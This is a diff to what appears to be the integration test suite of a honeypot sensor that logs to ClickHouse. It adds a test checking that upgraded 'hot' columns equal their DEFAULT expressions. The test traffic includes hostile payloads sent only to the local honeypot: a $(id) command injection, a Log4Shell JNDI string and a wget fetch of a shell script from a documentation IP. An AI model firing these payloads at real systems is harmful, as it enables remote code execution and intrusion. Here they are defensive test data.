@@ -22,6 +22,7 @@ import shutil
 import signal
 import socket
 import subprocess
+import sys
 import threading
 import time
 import urllib.parse
@@ -335,7 +336,7 @@ def clickhouse_two_shard_distributed(ctx):
     local = [int(s.rows("SELECT count() FROM hanipo.events_local")[0][0]) for s in (s1, s2)]
     total = int(s2.rows("SELECT count() FROM hanipo.events")[0][0])
     assert all(n > 0 for n in local) and sum(local) == total, (local, total)
-    # the hot columns read through the Distributed table (ALIAS there, MATERIALIZED in the shards)
+    # the hot columns read through the Distributed table (DEFAULT there and in the shards)
     # equal the JSON they come from
     hot = s1.rows("SELECT sensor, countIf(isNotNull(src_cc)), countIf(isNotNull(username)), count() FROM "
                   "hanipo.events GROUP BY sensor ORDER BY sensor")
@@ -506,3 +507,86 @@ def clickhouse_fleet_dashboard(ctx):
                                                                                              dlog[-3000:])
     ctx.note("tokyo %d events, paris %d; %d hostile queries answered empty" % (
         len(evs["tokyo"]), len(evs["paris"]), checked))
+
+
+def hot_mismatches(ch):
+    """Per hot column, the rows where the value stored differs from the column's own DEFAULT
+    expression over `data` (what ClickHouse would have computed): {column: count}."""
+    cols = ch.rows("SELECT name, type, default_expression FROM system.columns WHERE database = 'hanipo' "
+                   "AND table = 'events' AND default_kind = 'DEFAULT'")
+    assert len(cols) == 22, cols
+    parts = []
+    for name, typ, expr in cols:
+        expr = expr.replace("\\\\", "\\").replace("\\'", "'")   # TabSeparated escaping undone
+        if typ.startswith("Array"):
+            parts.append("countIf(%s != %s)" % (name, expr))
+        else:
+            parts.append("countIf(ifNull(toString(%s), '<null>') != ifNull(toString(%s), '<null>'))" % (name, expr))
+    got = ch.rows("SELECT " + ", ".join(parts) + " FROM hanipo.events")[0]
+    return {c[0]: int(n) for c, n in zip(cols, got)}
+
+
+@case
+def clickhouse_hot_values_from_sensor(ctx):
+    """A table of the previous release (hot columns MATERIALIZED): the sensor sends rows without
+    them.  `hanipo clickhouse init` makes them DEFAULT; the restarted sensor then sends their
+    values itself, and every value equals what the column's expression gives over `data`."""
+    need_clickhouse(ctx)
+    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+    import chserver
+    ch = ClickHouse(os.path.join(ctx_tmp(ctx), "ch"))
+    ctx.defer(lambda: ch.stop(signal.SIGKILL))
+    ch.start()
+    ch.query("CREATE DATABASE hanipo")
+    ch.query(chserver.MAT_TABLE)                           # MATERIALIZED hot columns
+    pw = os.path.join(ctx_tmp(ctx), "ch-password")
+    with open(pw, "w") as f:
+        f.write("s3cr3t pass\n")
+    d = ctx.daemon("chhot", [Service("web", protocol="http"), Service("ftp", protocol="ftp")], sensor={"name": "hot-1"},
+                   outputs={"jsonl": {"enabled": "true"}, "clickhouse": ch_output(ch, pw)})
+
+    def traffic(tag):
+        for i, (req, ua) in enumerate([
+                ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1", "curl/8"),
+                ("GET /?x=%s HTTP/1.1" % tag, "${jndi:ldap://198.51.100.7:1389/Exploit%s}" % tag),
+                ("GET /shell?cd+/tmp;wget+http://198.51.100.9/%s.sh HTTP/1.1" % tag, "Mozilla/5.0 \"q\" \\ \u00e9t\u00e9"),
+                ("POST /wp-login.php HTTP/1.1", "python-requests/2.31")]):
+            s = socket.create_connection(("127.0.0.1", d.svc("web").port), timeout=5)
+            s.sendall(("%s\r\nHost: x\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n" % (req, ua)).encode())
+            s.recv(4096)
+            s.close()
+        s = socket.create_connection(("127.0.0.1", d.svc("ftp").port), timeout=5)
+        f = s.makefile("rb")
+        f.readline()
+        for line in (b"USER root%s\r\n" % tag.encode(), b"PASS p\"a\\ss\xc3\xa9%s\r\n" % tag.encode(), b"QUIT\r\n"):
+            s.sendall(line)
+            f.readline()
+        s.close()
+
+    def shipped():
+        return len(ch_uids(ch, "hot-1")) >= len(jsonl_uids(d)) > 0
+
+    d.start()
+    traffic("old")
+    wait_for(shipped, T(15), interval=0.2, what="rows in the old table")
+    d.stop()
+    assert "computes its hot columns itself" in d.stderr(), d.stderr()[-2000:]
+    out = init(d)
+    assert out.count("made DEFAULT the column") == 22 and "hanipo.events ready" in out, out
+    n_old = len(ch_uids(ch, "hot-1"))
+    d.start()
+    wait_for(lambda: "takes the hot columns' values" in d.stderr(), T(10), interval=0.1,
+             what="the sensor asking the table")
+    traffic("new")
+    wait_for(shipped, T(15), interval=0.2, what="rows in the upgraded table")
+    d.stop()
+    assert "takes the hot columns' values: the sensor computes them" in d.stderr(), d.stderr()[-2000:]
+    bad = {k: v for k, v in hot_mismatches(ch).items() if v}
+    assert not bad, "hot columns differing from their expressions: %s" % bad
+    # ... and the values are there (the comparison would also hold for all-NULL columns and expressions)
+    c = ch.rows("SELECT countIf(username = 'rootnew'), countIf(password = 'p\"a\\\\ss\u00e9new'), "
+                "countIf(has(cves, 'CVE-2021-44228')), countIf(user_agent LIKE 'Mozilla/5.0 \"q\" %'), "
+                "countIf(notEmpty(attack_classes)), count() FROM hanipo.events WHERE sensor = 'hot-1'")[0]
+    assert int(c[0]) >= 1 and int(c[1]) >= 1 and int(c[2]) >= 2 and int(c[3]) >= 2 and int(c[4]) >= 4, c
+    ctx.note("%d rows before the upgrade, %s after; 22 hot columns equal their expressions" % (
+        n_old, int(c[5]) - n_old))
